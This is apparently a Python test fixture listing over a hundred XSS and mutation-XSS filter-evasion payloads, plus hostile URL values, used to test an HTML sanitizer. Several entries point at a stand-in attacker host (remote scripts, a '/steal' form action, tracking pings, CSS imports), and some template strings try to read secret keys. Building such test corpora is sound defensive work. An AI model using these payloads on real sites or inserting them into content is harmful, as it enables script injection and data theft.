"""Hostile HTML for the XSS tests (tests/test_hostile_content.py, tests/browser/test_hostile_browser.py).

Plain data: ``VECTORS`` is a list of ``(name, html)``. Sources: the OWASP XSS Filter Evasion Cheat Sheet,
the HTML5 Security Cheatsheet (html5sec.org), and published mutation-XSS research (Heiderich et al., "mXSS
Attacks", 2013; the DOMPurify bypasses of 2019-2020 by Michał Bentkowski and Gareth Heyes). Each vector is
self-contained (every element it opens, it closes), so the paragraphs put around it by the tests must survive.

Two placeholders, replaced by ``vector_html()``:

- ``{img}``: the origin of the harmless pictures (the tests' fake image host; the browser test's live server),
  so that pictures that are meant to survive load from the server under test;
- ``https://evil.example``: an attacker's host. Nothing may ever be requested from it.

``{{ }}`` and ``{% %}`` are literal: template syntax is part of the corpus (it must stay text).
"""

EVIL = "https://evil.example"

VECTORS = [
    # --- javascript:, vbscript:, data: URLs, disguised ------------------------------------------------------------
    ("href-javascript", '<a href="javascript:alert(1)">链接</a>'),
    ("href-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">链接</a>'),
    ("href-javascript-leading-space", '<a href="  javascript:alert(1)">链接</a>'),
    ("href-javascript-control-prefix", '<a href="&#14;  javascript:alert(1)">链接</a>'),
    ("href-javascript-decimal-entities",
     '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">链接</a>'),
    ("href-javascript-padded-entities",
     '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058'
     'alert(1)">链接</a>'),
    ("href-javascript-hex-entities-no-semicolon",
     '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">链接</a>'),
    ("href-javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">链接</a>'),
    ("href-javascript-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">链接</a>'),
    ("href-javascript-entity-cr", '<a href="jav&#x0D;ascript:alert(1)">链接</a>'),
    ("href-javascript-raw-tab", '<a href="jav\tascript:alert(1)">链接</a>'),
    ("href-javascript-named-colon", '<a href="javascript&colon;alert(1)">链接</a>'),
    ("href-javascript-nul-entity", '<a href="java&#0;script:alert(1)">链接</a>'),
    ("href-javascript-unquoted", "<a href=javascript:alert(1)>链接</a>"),
    ("href-javascript-backticks", "<a href=`javascript:alert(1)`>链接</a>"),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">链接</a>'),
    ("href-data-html-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>'),
    ("href-data-entity-d", '<a href="&#100;ata:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">链接</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)" alt="图">'),
    ("img-dynsrc-lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" src="{img}/dynsrc.jpg">'),
    ("img-src-data-svg",
     '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">'),
    # --- event handlers ------------------------------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-odd-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newlines", "<img src=x\nonerror\n=\nalert(1)>"),
    ("img-onload-real-picture", '<img src="{img}/onload.jpg" width="10" height="10" onload="alert(1)">'),
    ("img-malformed-quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    ("body-onload", "<body onload=alert(1)>正文</body>"),
    ("svg-onload", "<svg onload=alert(1)></svg>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>摘要</summary></details>"),
    ("p-onmouseover", '<p onmouseover="alert(1)">悬停段落</p>'),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>滚动</marquee>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("a-onclick", '<a title="x" onclick="alert(1)" href="https://example.org/">链接</a>'),
    ("xss-locator", "'';!--\"<XSS>=&{()}"),
    # --- script elements -------------------------------------------------------------------------------------------
    ("script", "<script>alert(1)</script>"),
    ("script-odd-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src-remote", '<script src="https://evil.example/x.js"></script>'),
    ("script-non-alpha", '<script/xss src="https://evil.example/x.js"></script>'),
    ("script-extra-open-bracket", "<<script>alert(1);//<</script>"),
    ("script-split-name", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-attribute", '<p title="</p><script>alert(1)</script>">属性</p>'),
    # --- svg and math namespaces ------------------------------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate-href",
     '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">点</text></a></svg>'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点</text></a></svg>'),
    ("svg-use-data",
     '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1h'
     'Z2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>'),
    ("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-foreignobject-iframe",
     '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>'),
    ("svg-p-style-mxss", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></a></style></svg>'),
    ("math-href", '<math href="javascript:alert(1)">点</math>'),
    ("math-mglyph-style",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("math-form-mglyph",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"),
    # --- mutation XSS through raw-text and template elements ------------------------------------------------------
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'),
    ("noscript-style-mxss", "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>"),
    ("style-mxss", '<style><p title="</style><img src=x onerror=alert(1)>"></p></style>'),
    ("template-mxss", '<template><p title="</template><img src=x onerror=alert(1)>"></p></template>'),
    ("title-mxss", '<title><p title="</title><img src=x onerror=alert(1)>"></p></title>'),
    ("textarea-mxss", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p></textarea>'),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>'),
    ("noembed-mxss", '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></p></noembed>'),
    ("iframe-content-mxss", '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></p></iframe>'),
    ("table-foster-parenting", "<table><tr><td>格</td></tr><img src=x onerror=alert(1)></table>"),
    # --- embedding, forms, navigation -------------------------------------------------------------------------------
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-param-embed",
     '<object><param name="movie" value="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>'),
    ("embed-data-svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">提交</button></form>'),
    ("input-formaction",
     '<form action="https://evil.example/steal"><input type="submit" formaction="javascript:alert(1)" value="提交"></form>'),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data",
     '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">'),
    ("meta-refresh-remote", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("a-ping", '<a href="https://example.org/" ping="https://evil.example/track">链接</a>'),
    ("area-javascript",
     '<img src="{img}/map.jpg" usemap="#m"><map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>'),
    ("dom-clobbering", '<a id="main" name="querySelector">克隆</a><form name="lightbox"><input name="attributes"></form>'),
    # --- srcset and CSS ---------------------------------------------------------------------------------------------
    ("img-srcset-javascript", '<img srcset="javascript:alert(1) 1x" src="{img}/srcset1.jpg">'),
    ("img-srcset-remote", '<img src="{img}/srcset2.jpg" srcset="https://evil.example/x.jpg 2x">'),
    ("picture-source-remote", '<picture><source srcset="https://evil.example/x.jpg"><img src="{img}/picture.jpg"></picture>'),
    ("style-url-javascript", '<p style="background:url(javascript:alert(1))">样式</p>'),
    ("style-expression", '<p style="width: expression(alert(1))">样式</p>'),
    ("style-escaped-expression", '<p style="x:\\65 xpression(alert(1))">样式</p>'),
    ("style-url-remote", '<div style="background-image:url(https://evil.example/x.png)">样式</div>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-overlay", '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖</a>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>表</td></tr></table>'),
    # --- broken comments and markup declarations ---------------------------------------------------------------------
    ("comment-abrupt-close", "<!--> <img src=x onerror=alert(1)> -->"),
    ("comment-in-attribute", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("bogus-comment-declaration", '<! foo="><img src=x onerror=alert(1)>">'),
    ("cdata-in-html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("processing-instruction", '<?xml version="1.0"?><img src=x onerror=alert(1)>'),
    ("server-side-include", '<!--#exec cmd="/bin/echo x"--><esi:include src="https://evil.example/"/>'),
    # --- quotes, entities, text that looks like markup ---------------------------------------------------------------
    ("nested-quotes", '<p title=\'a"b\'><a href="https://example.org/" title="&quot;onmouseover=alert(1) x=&quot;">引号</a></p>'),
    ("alt-quote-breakout", '<img src="{img}/alt.jpg" alt="&quot; onerror=&quot;alert(1)">'),
    ("alt-holds-markup", '<img src="{img}/altmarkup.jpg" alt="<svg onload=alert(1)>">'),
    ("caption-holds-markup",
     '<figure><img src="{img}/caption.jpg"><figcaption>图：&lt;img src=x onerror=alert(1)&gt;</figcaption></figure>'),
    ("title-attribute-closes-link", '<a href="https://example.org/" title="</a><script>alert(1)</script>">链接</a>'),
    ("double-angle-brackets", "<<p>>段<</p>>"),
    ("escaped-script-as-text", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("double-escaped-markup", "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>"),
    ("fullwidth-brackets", "<p>＜script＞alert(1)＜/script＞</p>"),
    ("href-percent-encoded-colon", '<a href="javascript%3Aalert(1)">链接</a>'),
    # --- template syntax (must stay text: pages are never rendered twice) -----------------------------------------------
    ("django-variable", "<p>{{ settings.SECRET_KEY }}</p>"),
    ("django-debug-tag", "<p>{% debug %}</p>"),
    ("django-load-tag", "<p>{% load static %}{% static 'x.js' %}{% csrf_token %}</p>"),
    ("angular-expression", "<p>{{constructor.constructor('alert(1)')()}}</p>"),
    ("jinja-config", "<p>{{ config.items() }}{{ request.environ }}</p>"),
]

# Hostile addresses for the fields that hold one URL and nothing else: a Markdown file's ``headimg`` and
# ``thumbnail``, an NDJSON document's source homepages, picture URLs and ``original_url``. Written as the value
# arrives (YAML and JSON strings), so the tab, newline and control character are real characters.
URL_VECTORS = [
    ("javascript", "javascript:alert(1)"),
    ("javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    ("javascript-leading-space", " javascript:alert(1)"),
    ("javascript-leading-control", "\x0e javascript:alert(1)"),
    ("javascript-tab", "java\tscript:alert(1)"),
    ("javascript-newline", "java\nscript:alert(1)"),
    ("javascript-comment-http", "javascript://img.example/%0Aalert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-svg", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="),
    ("percent-encoded-colon", "javascript%3Aalert(1)"),
    ("attribute-breakout", 'https://img.example/x.jpg"onerror="alert(1)'),
    ("markup-in-query", "https://img.example/x.jpg?a=<script>alert(1)</script>"),
]

NAMES = [name for name, _ in VECTORS]
assert len(NAMES) == len(set(NAMES)), "vector names must be unique"


def vector_html(html: str, image_origin: str) -> str:
    """``html`` with its harmless pictures served from ``image_origin`` (no trailing slash)."""
    return html.replace("{img}", image_origin)
